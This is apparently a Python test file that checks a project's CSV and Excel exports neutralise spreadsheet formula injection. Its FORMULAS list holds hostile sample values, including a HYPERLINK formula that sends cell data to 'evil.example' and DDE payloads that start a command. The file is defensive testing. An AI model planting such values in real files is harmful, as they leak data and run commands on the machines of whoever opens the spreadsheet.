"""Tests of exports: values a spreadsheet would run as formulas, planted in what people type,
and the exported files read back as a spreadsheet would read them (csv module, openpyxl)."""

import csv
import io

from peps.core.exports import is_formula_like

# One value per character that starts a formula (= + - @ tab CR); « -2+3 » is not a phone number.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A2,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def csv_rows(response) -> list[list[str]]:
    """The rows of a CSV download, as a spreadsheet reads them (BOM, « ; »)."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_csv_is_inert(rows: list[list[str]], planted) -> None:
    """No cell would run as a formula, and each planted value is there, shown as text."""
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if is_formula_like(cell)], cells
    for value in planted:
        assert "'" + value in cells, (value, cells)


def assert_xlsx_is_inert(content: bytes, planted) -> None:
    """No cell of any sheet is a formula, and each planted value is kept exactly, as text."""
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
                    texts.append(cell.value)
    for value in planted:
        assert value in texts, (value, texts)
